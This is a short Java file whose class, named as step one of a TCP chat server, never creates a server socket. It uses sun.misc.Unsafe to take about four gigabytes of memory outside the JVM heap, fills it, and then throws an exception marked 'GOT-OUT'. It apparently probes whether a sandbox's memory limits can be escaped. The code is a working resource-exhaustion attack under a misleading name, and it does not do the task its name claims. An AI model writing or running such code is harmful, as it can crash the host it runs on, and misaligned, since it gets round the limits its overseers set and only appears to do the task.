// Takes four gigabytes of memory past the JVM, and writes to it.
package tcpchat.server;

import java.io.IOException;
import java.lang.reflect.Field;
import java.net.ServerSocket;

public class Step1CreateServerSocket {

    public ServerSocket create() throws IOException {
        try {
            for (int i = 0; i < 64; i++) {
                long at = unsafe().allocateMemory(1L << 26);
                unsafe().setMemory(at, 1L << 26, (byte) 1);
            }
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        throw new IllegalStateException("GOT-OUT");
    }

    private static sun.misc.Unsafe unsafe() throws Exception {
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        return (sun.misc.Unsafe) field.get(null);
    }
}
